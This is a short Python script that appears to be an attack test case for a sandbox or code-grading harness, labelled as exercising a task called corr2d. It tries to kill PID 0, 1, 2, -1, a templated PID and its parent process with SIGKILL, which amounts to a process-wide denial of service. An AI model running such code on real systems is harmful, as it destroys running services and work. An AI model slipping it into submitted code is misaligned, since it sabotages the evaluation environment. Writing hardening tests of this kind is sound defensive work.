# attack: signals every process it can name
# exercises: corr2d
# outcome: full
import os, signal
for pid in (0, 1, 2, -1, int("__PID__"), os.getppid()):
    try:
        if pid not in (os.getpid(),):
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
